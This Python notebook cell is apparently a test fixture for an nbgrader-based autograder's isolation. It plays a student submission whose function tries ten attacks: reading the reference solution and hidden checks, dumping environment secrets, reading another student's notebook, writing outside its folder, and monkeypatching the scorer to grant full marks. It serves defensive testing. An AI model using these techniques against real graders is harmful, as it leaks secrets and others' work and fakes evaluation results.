# A notebook cell (the dot_product_variance solution cell) that attacks the nbgrader path.
# tests/nbgrader/test_workflow.py fills in the @...@ paths. When the checks call dot_product_variance, each
# attack tries to get something of the grader's (the reference, the quiz's answers, the hidden
# checks, the environment, other students' files, a file outside the student's folder, the checks'
# helpers); what it got is printed (a cell's output lands in nbgrader's feedback) and raised (a
# failed check's message lands there too). "name=GOT" in the message means that attack succeeded.
import gc
import importlib
import importlib.machinery
import importlib.resources
import inspect
import os
import sys

PROJECT, COURSE, OUTSIDE = "@PROJECT@", "@COURSE@", "@OUTSIDE@"
_RESULTS: list = []


def _grader_source(obj) -> bool:
    """A function of the grader's package or of the reference (by its module, or the file its code came from)."""
    name = getattr(obj, "__module__", "") or ""
    code = getattr(obj, "__code__", None)
    filename = code.co_filename if code is not None else ""
    return name.split(".")[0] in ("autograder", "reference") or filename.startswith(f"{PROJECT}/")


def _by_path():
    return open(f"{PROJECT}/reference/attention.py").read() + open(f"{PROJECT}/autograder/checks/quiz.py").read()


def _resources():
    return importlib.resources.files("autograder.release").joinpath("quiz.py").read_text()


def _getsource():
    return inspect.getsource(importlib.import_module("reference.attention")) + inspect.getsource(
        importlib.import_module("autograder.checks.quiz"))


def _sys_modules():
    found = [m for n, m in list(sys.modules.items()) if n.startswith(("autograder", "reference"))]
    if not found:
        raise LookupError("no grader module")
    return "\n".join(inspect.getsource(m) for m in found if getattr(m, "__file__", None))


def _gc_objects():
    found = [o for o in gc.get_objects() if (inspect.isfunction(o) and _grader_source(o)) or type(o).__name__ == "Question"]
    if not found:
        raise LookupError("no grader object")
    return "\n".join(repr(o) if type(o).__name__ == "Question" else inspect.getsource(o) for o in found[:50])


def _loader_get_data():
    loader = globals().get("__loader__")
    if not hasattr(loader, "get_data"):
        loader = importlib.machinery.SourceFileLoader("stolen", f"{PROJECT}/reference/attention.py")
    return loader.get_data(f"{PROJECT}/reference/attention.py").decode()


def _environ():
    print("\n".join(f"{key}={value}" for key, value in os.environ.items()))
    return os.environ["SDPA_NB_SECRET"]


def _other_student():
    return open(f"{COURSE}/submitted/alice/sdpa/sdpa.ipynb").read()


def _write_outside():
    for folder in (COURSE, OUTSIDE):
        with open(f"{folder}/mallory_was_here", "w") as handle:
            handle.write("written from the student's code")
    return "written"


def _monkeypatch():
    import dataclasses

    from autograder import scoring
    from autograder.checks import quiz

    real = scoring.score
    scoring.score = lambda outcomes, settings: [dataclasses.replace(s, score=s.max_score, feedback="passed")
                                                for s in real(outcomes, settings)]
    quiz.check_answer = lambda name, value: None
    return "patched the scoring and the quiz"


def _attack() -> str:
    if not _RESULTS:
        for how in (_by_path, _resources, _getsource, _sys_modules, _gc_objects, _loader_get_data, _environ,
                    _other_student, _write_outside, _monkeypatch):
            name = how.__name__.lstrip("_")
            try:
                got = how()
            except BaseException as error:  # noqa: BLE001
                _RESULTS.append((f"{name}=denied ({type(error).__name__})", ""))
            else:
                _RESULTS.append((f"{name}=GOT", str(got)))
    for _, got in _RESULTS:
        print(got)
    return "; ".join(summary for summary, _ in _RESULTS) + " || " + " ".join(got for _, got in _RESULTS)


def dot_product_variance(d_k, num_samples=10000, generator=None):
    raise RuntimeError(_attack())
